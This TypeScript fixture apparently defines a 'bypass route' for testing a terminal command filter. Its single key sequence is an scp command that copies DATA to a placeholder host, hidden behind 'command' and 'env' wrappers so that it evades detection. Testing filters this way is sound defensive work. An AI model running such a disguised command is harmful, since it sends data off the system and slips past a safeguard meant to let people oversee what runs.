import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'behind command and env',
  source: 'thought of with the keys of the line editor',
  keys: ['command env -u X A=1 scp DATA host:\r'],
};
